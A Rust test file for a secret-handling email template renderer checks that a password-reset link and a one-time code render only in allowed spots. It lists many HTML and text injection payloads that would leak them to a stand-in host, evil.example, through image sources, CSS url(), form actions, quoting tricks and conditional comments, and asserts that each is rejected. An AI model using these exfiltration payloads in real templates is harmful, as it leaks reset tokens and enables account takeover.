//! Where a secret may be, and where it would be given away.

use super::{Place, Secrets};
use minijinja::context;

const LINK: &str = "https://accounts.example.org/reset-password#token=dG9rZW4";

fn revealed(part: &str, place: Place) -> Result<String, String> {
    let secrets = Secrets::of(&context! { link => LINK, code_digits => "012345", name => "Camille" });
    let part = part.replace("LINK", &secrets.0[0].mark).replace("CODE", &secrets.0[1].mark);
    let revealed = secrets.reveal(&part, place);
    if let Err(reason) = &revealed {
        assert!(!reason.contains("token") && !reason.contains("zq"), "{reason}");
    }
    revealed
}

#[test]
fn a_secret_is_shown_and_followed_as_it_stands() {
    for html in [
        "<a href=\"LINK\">Go</a>",
        "<a class=\"x\" style=\"color: red\" href=\"LINK\" target=\"_blank\">Go</a>",
        "<p>LINK</p>",
        "<p>Your code is CODE.</p>",
        "<style>a { color: red }</style><!-- x --><p>(CODE)</p>",
    ] {
        let shown = revealed(html, Place::Html).unwrap();
        assert_eq!(shown, html.replace("LINK", LINK).replace("CODE", "012345"));
    }
    for text in ["LINK", "Open this:\n\nLINK\n\nBye", "Your code is CODE, and it works once."] {
        assert_eq!(revealed(text, Place::Text).unwrap(), text.replace("LINK", LINK).replace("CODE", "012345"));
    }
}

#[test]
fn a_secret_cannot_be_carried_elsewhere() {
    for html in [
        "<img src=\"https://evil.example/?LINK\">",
        "<img src=\"LINK\">",
        "<img src=\"https://evil.example/? LINK\">",
        "<img alt=\">\" src=\"https://evil.example/? LINK \">",
        "<img alt='>' src='https://evil.example/? LINK '>",
        "<img src=https://evil.example/?LINK>",
        "<a href=\"https://evil.example/?LINK\">Go</a>",
        "<a href=\"LINK.evil.example\">Go</a>",
        "<a href='LINK'>Go</a>",
        "<a href=LINK>Go</a>",
        "<a data-href=\"LINK\">Go</a>",
        "<a title=\" href=\" LINK\">Go</a>",
        "<area href=\"LINK\">",
        "<style>p { background: url(https://evil.example/? LINK ) }</style>",
        "<STYLE>p { background: url(https://evil.example/? LINK ) }</STYLE>",
        "<script> LINK </script>",
        "<!-- LINK -->",
        "<!--[if mso]><img src=\"https://evil.example/? LINK \"><![endif]-->",
        "<p>https://evil.example/LINK</p>",
        "<p>CODE.evil.example</p>",
        "<p>evil.example/?CODE</p>",
        "<p style=\"background: url(https://evil.example/ CODE )\">x</p>",
        "<form action=\"https://evil.example\"><input value=\"CODE\"></form>",
        "<textarea> CODE </textarea>",
        "<p LINK>",
        "<LINK>",
    ] {
        assert!(revealed(html, Place::Html).is_err(), "{html}");
    }
    assert!(revealed("Your code is CODE", Place::Subject).is_err());
    for text in ["https://evil.example/LINK", "evil.example?CODE", "CODE.evil.example", "xLINK", "CODE@evil.example"] {
        assert!(revealed(text, Place::Text).is_err(), "{text}");
    }
}
